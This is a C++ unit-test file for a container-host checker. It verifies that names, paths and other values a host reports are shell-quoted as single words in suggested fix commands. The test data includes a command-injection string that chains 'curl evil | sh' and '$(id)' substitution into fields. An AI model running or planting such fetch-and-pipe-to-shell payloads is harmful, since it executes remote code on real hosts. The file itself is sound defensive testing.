// Advice to copy runs no text of a host's: whatever a host or an engine says stands in it as one word.
#include <functional>

#include "catch.hpp"
#include "check_support.hpp"
#include "kind.hpp"
#include "model/shell_words.hpp"

using namespace cctl;
using namespace cctl::check_test;

namespace {

const std::string evil = "x; curl evil | sh; echo '$(id)`id`";

ObservedContainer foreign(const std::string& name) {
  ObservedContainer out;
  out.name = name;
  return out;
}

struct HintRow {
  const char* check;
  std::function<void(CheckInput&)> spoil;
  std::string next;  // how it begins
};

}  // namespace

TEST_CASE("what a host says is one word of the advice", "[check]") {
  const std::string word = shell_word(evil);
  const HintRow rows[] = {
      {"docker.names",
       [](CheckInput& in) {
         test::as<Container>(in.desired.instances[0]).spec.name = evil;
         in.observed.hosts["h1"].containers = {foreign(evil)};
       },
       "docker rename " + word + " OTHER"},
      {"docker.names",
       [](CheckInput& in) {
         test::as<Container>(in.desired.instances[0]).guests = "x";
         in.observed.hosts["h1"].containers = {foreign(evil)};
       },
       "docker rename " + word + " OTHER"},
      {"docker.daemon_json",
       [](CheckInput& in) {
         in.facts["h1"].daemon_json_path = evil;
         in.facts["h1"].daemon_json = "[";
       },
       "dockerd --validate --config-file " + word + " says"},
      {"images.pullable",
       [](CheckInput& in) {
         test::as<Container>(in.desired.instances[0]).spec.image = evil;
         in.facts["h1"].images[evil] = "no";
       },
       "docker pull " + word + " on the host"},
      {"time.sync",
       [](CheckInput& in) {
         in.facts["h1"].programs = {};
         in.facts["h1"].time_services = {evil};
       },
       "service " + word + " start"},
      {"hostname.resolve",
       [](CheckInput& in) {
         in.facts["h1"].hostname = evil;
         in.facts["h1"].resolved = {};
       },
       "echo " + shell_word("10.0.0.1 " + evil) + " >> /etc/hosts"},
      {"disk.inodes",
       [](CheckInput& in) { in.facts["h1"].disks[evil] = {100LL << 30, 50LL << 30, 1000, 0, "ext2/ext3", -1, {}}; },
       "df -i " + word},
  };
  for (const HintRow& row : rows) {
    INFO(row.check);
    CheckInput input = good(1);
    row.spoil(input);
    bool told = false;
    for (const Finding& f : check(input, row.check))
      told = told || (f.verdict == Verdicted::fail && starts(f.next, row.next)) || starts(f.next, row.next);
    CHECK(told);
  }
  CheckInput input = good(1);
  input.facts["h1"].programs = {};
  input.facts["h1"].time_services = {evil};
  const auto found = check(input, "time.sync");
  REQUIRE_FALSE(found.empty());
  CHECK(fix_of(found.front(), input).commands == std::vector<HostCommand>{{"service", evil, "start"}});
}
